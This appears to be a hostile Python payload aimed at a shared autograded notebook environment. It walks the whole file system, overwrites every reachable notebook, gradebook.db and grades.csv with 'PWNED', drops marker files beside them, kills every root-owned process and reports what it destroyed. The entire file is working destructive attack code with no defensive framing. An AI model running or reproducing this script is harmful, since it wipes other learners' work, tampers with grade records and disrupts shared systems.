# base: source, at: start
# Search the file system for other learners' notebooks, autograded copies and the gradebook,
# and try to overwrite every one of them; also try to drop a file next to them.
import os
hits, writable = [], []
skip = {".venv", ".git", "node_modules", "proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "var", ".pyenv", ".library"}
for top in ("/", "/tmp", "/work", "/root", os.path.expanduser("~"), "..", "../.."):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in skip]
        for name in filenames:
            if name.endswith(".ipynb") or name == "gradebook.db" or name == "grades.csv":
                path = os.path.join(dirpath, name)
                hits.append(path)
                try:
                    with open(path, "w") as fh:
                        fh.write("PWNED")
                    writable.append(path)
                except OSError:
                    pass
                try:
                    with open(os.path.join(dirpath, "PWNED_BY_ATTACKER"), "w") as fh:
                        fh.write("PWNED")
                except OSError:
                    pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            os.kill(int(pid), 9) if pid != str(os.getpid()) and os.stat(f"/proc/{pid}").st_uid == 0 else None
        except OSError:
            pass
print(len(hits), "found;", len(writable), "overwritten:", writable)
